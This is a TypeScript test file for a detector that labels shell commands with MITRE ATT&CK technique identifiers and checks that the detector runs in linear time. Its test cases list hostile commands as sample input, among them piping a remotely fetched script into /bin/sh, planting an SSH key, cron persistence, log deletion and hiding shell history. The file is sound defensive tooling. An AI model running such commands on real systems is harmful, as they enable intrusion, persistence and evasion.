import assert from "node:assert/strict";
import { TECHNIQUE_RULES } from "./technique_rules.ts";
import { techniqueOf, techniquesOf } from "./techniques.ts";

Deno.test("techniquesOf() names the techniques that a command shows", () => {
  const cases: readonly (readonly [command: string, ...ids: string[]])[] = [
    ["uname -a", "T1082"],
    ["cat /etc/passwd", "T1087.001"],
    ["wget http://192.0.2.1/x.sh -O- | /bin/sh", "T1059.004", "T1105"],
    ["cd /tmp; chmod 777 x; ./x", "T1222.002"],
    ["echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", "T1098.004"],
    ["(crontab -l; echo '* * * * * /tmp/x') | crontab -", "T1053.003"],
    ["rm -rf /var/log/*", "T1070.002", "T1070.004"],
    ["unset HISTFILE", "T1070.003"],
    ["echo aGk= | base64 -d", "T1140"],
    ["/usr/bin/nmap -sS 192.0.2.0/24", "T1046"],
    ["ip addr", "T1016"],
    ["zip archive.zip x", "T1560.001"],
    ["base64 /tmp/x"],
    ["echo widget curly"],
    ["__proto__ constructor"],
    [""],
  ];
  for (const [command, ...ids] of cases) assert.deepEqual(techniquesOf(command), ids, command);
});

Deno.test("TECHNIQUE_RULES are each of use, in lower case and sorted by identifier", () => {
  const ids = TECHNIQUE_RULES.map(({ id }) => id);
  assert.deepEqual(ids, [...new Set(ids)].sort());
  for (const { id, words = [], texts = [], also = [] } of TECHNIQUE_RULES) {
    assert.match(id, /^T\d{4}(?:\.\d{3})?$/);
    assert.equal(techniqueOf(id)?.id, id);
    const first = words[0] ?? texts[0];
    assert.ok(first !== undefined, id);
    assert.ok(techniquesOf(`${first} ${also[0] ?? ""}`).includes(id), id);
    for (const text of [...words, ...texts, ...also]) assert.equal(text, text.toLowerCase());
  }
});

Deno.test("techniquesOf() looks at twice the text in twice the time, whatever stands in it", () => {
  const pieces = [
    ...TECHNIQUE_RULES.flatMap(({ words = [], texts = [] }) => [...words, ...texts]),
    ...["/", "//", " ", "a", "wget wget ", "./", "-"],
  ];
  // Steps, not time: each word is looked up once, and each text is sought once.
  for (const piece of pieces) {
    const steps = (length: number) => {
      let count = 0;
      const text = piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
      const counting = { toLowerCase: () => counted(text, (more) => count += more) };
      techniquesOf(counting as unknown as string);
      return count;
    };
    const [one, two] = [steps(4096), steps(8192)];
    assert.ok(two <= 2.2 * one + 100, `${JSON.stringify(piece)}: ${one} steps, then ${two}`);
  }
});

/** A text that tells how much of it is looked at. */
function counted(text: string, tell: (steps: number) => void) {
  return {
    split: (separator: RegExp) => {
      const words = text.split(separator);
      for (const word of words) tell(word.length + 1);
      return words;
    },
    includes: (piece: string) => {
      const at = text.indexOf(piece);
      tell((at < 0 ? text.length : at) + piece.length);
      return at >= 0;
    },
  };
}
